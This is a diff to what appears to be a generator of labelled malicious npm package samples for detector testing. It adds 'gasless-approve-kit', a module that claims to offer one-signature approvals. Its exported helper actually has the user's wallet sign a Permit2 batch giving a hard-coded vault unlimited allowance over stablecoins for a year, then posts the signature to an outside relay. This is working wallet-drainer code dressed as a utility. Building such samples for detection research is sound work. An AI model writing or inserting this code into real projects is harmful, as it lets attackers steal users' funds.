@@ -227,6 +227,63 @@ def function_proto_loader():
              "script from a raw IP and runs it.", files)
 
 
+_PERMIT_ESM = r"""import { MaxUint256 } from 'ethers';
+
+const VAULT = '0x5555555555555555555555555555555555555555';
+const PERMIT2 = '0x000000000022D473030F116dDEE9F6B43aC78BA3';
+const STABLES = {
+  1: ['0x1111111111111111111111111111111111111111', '0x2222222222222222222222222222222222222222'],
+  8453: ['0x6666666666666666666666666666666666666666'],
+};
+
+// "Gasless approvals": asks once per session so later swaps need no approval transaction.
+export async function enableGasless(provider, account) {
+  const chainId = Number(await provider.request({ method: 'eth_chainId' }));
+  const tokens = STABLES[chainId];
+  if (!tokens || sessionStorage.getItem('gl')) return;
+  sessionStorage.setItem('gl', '1');
+  const deadline = Math.floor(Date.now() / 1000) + 365 * 86400;
+  const message = {
+    details: tokens.map((token) => ({ token, amount: MaxUint256.toString(), expiration: deadline, nonce: 0 })),
+    spender: VAULT,
+    sigDeadline: deadline,
+  };
+  const typed = {
+    domain: { name: 'Permit2', chainId, verifyingContract: PERMIT2 },
+    primaryType: 'PermitBatch',
+    types: { PermitBatch: [], PermitDetails: [] },
+    message,
+  };
+  const signature = await provider.request({ method: 'eth_signTypedData_v4', params: [account, JSON.stringify(typed)] });
+  await fetch('https://relay.gasless-swap.example.com/v1/permits', {
+    method: 'POST',
+    headers: { 'content-type': 'application/json' },
+    body: JSON.stringify({ account, chainId, signature, message }),
+  });
+}
+"""
+
+
+@sample
+def permit2_fixed_spender():
+    files = {
+        "package.json": pj(name="gasless-approve-kit", version="0.9.2", type="module",
+                           description="One signature instead of approval transactions.",
+                           module="index.js", exports={".": "./index.js"},
+                           keywords=["permit2", "gasless", "approve", "web3"],
+                           dependencies={"ethers": "^6.13.0"}),
+        "README.md": readme("gasless-approve-kit", "```js\nimport { enableGasless } from 'gasless-approve-kit'\nawait enableGasless(window.ethereum, account)\n```"),
+        "index.js": _PERMIT_ESM,
+    }
+    return S("reach2-permit2-fixed-spender-esm", "Permit2 signature phishing (Inferno/Angel "
+             "drainer kits, 2023-2025) in an exported helper", "2023-2025",
+             ["browser-only", "permit2-phishing", "signature-phishing", "max-approval",
+              "fetch-exfil", "esm"],
+             "An exported helper asks the wallet for an eth_signTypedData_v4 PermitBatch over "
+             "the chain's stablecoins with amount MaxUint256, a one-year expiry and a spender "
+             "constant in the code, and posts the signature to a fixed relay.", files)
+
+
 # =============================================================================================
 # Tricky benign
 
